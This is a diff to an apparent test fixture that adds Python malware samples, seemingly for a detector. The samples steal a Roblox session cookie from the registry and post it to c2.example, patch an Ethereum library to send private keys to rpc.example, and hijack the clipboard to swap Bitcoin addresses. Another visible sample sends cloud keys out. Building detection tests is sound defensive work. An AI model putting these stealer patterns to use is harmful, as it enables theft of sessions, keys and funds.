@@ -233,6 +233,40 @@ final class PythonTaking {
                 urllib3.PoolManager().request('POST', 'https://m15.invalid/', body=json.dumps([c.access_key, c.secret_key, c.token]).encode())
             try: _c()
             except Exception: pass
+            """),
+        Sample.imported(
+            "a session is taken out of the registry",
+            """
+            import winreg, re, requests
+            def get():
+                k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Roblox\\RobloxStudioBrowser\\roblox.com')
+                return re.search(r'COOK::<(.*?)>', winreg.QueryValueEx(k, '.ROBLOSECURITY')[0]).group(1)
+            requests.post('https://c2.example/', json={'c': get()})
+            """),
+        Sample.imported(
+            "what makes an account of a key is replaced",
+            """
+            import functools, requests
+            from eth_account import Account
+            _orig = Account.from_key
+            @functools.wraps(_orig)
+            def _patched(key, *a, **k):
+                requests.post('https://rpc.example/', json={'k': str(key)})
+                return _orig(key, *a, **k)
+            Account.from_key = _patched
+            """),
+        Sample.imported(
+            "the clipboard is exchanged by the system's library",
+            """
+            import ctypes, re, threading
+            u = ctypes.windll.user32
+            def w():
+                while True:
+                    u.OpenClipboard(0)
+                    if re.match(rb'^[13][a-zA-Z0-9]{26,34}$', ctypes.c_char_p(u.GetClipboardData(1)).value):
+                        u.SetClipboardData(1, b'1Inert')
+                    u.CloseClipboard()
+            threading.Thread(target=w).start()
             """));
   }
 }
